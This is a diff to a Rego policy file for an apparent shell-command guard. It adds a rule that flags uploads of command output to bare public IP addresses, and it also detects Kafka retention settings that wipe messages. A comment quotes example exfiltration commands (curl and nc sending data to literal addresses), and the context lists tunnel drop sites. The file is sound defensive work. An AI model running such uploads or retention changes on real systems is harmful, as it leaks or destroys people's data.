@@ -977,6 +977,47 @@ drop_sites := {
 	"ngrok-free.app", "ngrok.io", "ngrok.app", "loca.lt", "serveo.net", "localhost.run", "lhr.life",
 }
 
+# @rule shell/upload-to-address ask
+# Data a command produced (a pipe, a file it read, its environment) sent to a public IP address written as a literal (curl -d @- http://203.0.113.9/a, nc 198.51.100.4 9000 < out): services people send data to have names; a bare public address is where collection servers and C2 listeners sit. Private, loopback and link-local addresses (RFC 1918, RFC 4193, 127/8, 169.254/16) are not this, nor a git push or a copy to one's own host by scp/rsync.
+decision contains {"id": "shell/upload-to-address", "decision": "ask", "reason": reason} if {
+	some u in facts_of("uploads")
+	not u.program in own_transfer_programs
+	upload_source(u) != ""
+	host := target_host(u.target)
+	public_ip_literal(host)
+	reason := sprintf("the command would send %s to the bare address %s (%s)", [upload_what(u), host, u.evidence])
+}
+
+public_ip_literal(host) if {
+	regex.match(`^[0-9]{1,3}(\.[0-9]{1,3}){3}$`, host)
+	every o in split(host, ".") {
+		to_number(o) <= 255
+	}
+	not private_address(host)
+}
+
+# 10/8, 127/8, 0/8 (first octet); 172.16/12, 192.168/16, 169.254/16, 100.64/10 (two octets).
+private_address(host) if split(host, ".")[0] in {"10", "127", "0"}
+
+private_address(host) if {
+	o := split(host, ".")
+	o[0] == "172"
+	to_number(o[1]) >= 16
+	to_number(o[1]) <= 31
+}
+
+private_address(host) if {
+	o := split(host, ".")
+	concat(".", [o[0], o[1]]) in {"192.168", "169.254"}
+}
+
+private_address(host) if {
+	o := split(host, ".")
+	o[0] == "100"
+	to_number(o[1]) >= 64
+	to_number(o[1]) <= 127
+}
+
 # @rule shell/sql-export deny
 # A database statement that has the server send table rows to a URL or a bucket (ClickHouse INSERT INTO FUNCTION url(…)/s3(…), DuckDB COPY … TO 's3://…', Aurora SELECT … INTO OUTFILE S3): the rows leave by the database's own network, past any tool that watches this machine's uploads. Loopback targets are local (hookward-shell tools.rs sql_export_urls).
 decision contains {"id": "shell/sql-export", "decision": "deny", "reason": reason} if {
@@ -1595,6 +1636,18 @@ redis_protection_off(key, value) if {
 word_at(words, n) := words[n] if n < count(words)
 
 word_at(words, n) := "" if n >= count(words)
+
+# A Kafka topic's retention set to a minute or less (kafka-configs --alter --add-config
+# retention.ms=N with N ≤ 60000, or retention.bytes=0..1024; Kafka topic configs): the broker
+# deletes the topic's messages at the next clean-up.
+recovery_off(c) if {
+	c.program in {"kafka-configs", "kafka-configs.sh", "kafka-topics", "kafka-topics.sh", "rpk"}
+	some a in c.argv
+	some m in regex.find_all_string_submatch_n(`retention\.(ms|bytes)=([0-9]+)`, a, -1)
+	to_number(m[2]) <= kafka_small[m[1]]
+}
+
+kafka_small := {"ms": 60000, "bytes": 1024}
 
 # A bucket lifecycle rule that expires every object within a week (aws s3api
 # put-bucket-lifecycle-configuration with an empty prefix or no filter and Expiration Days ≤ 7;
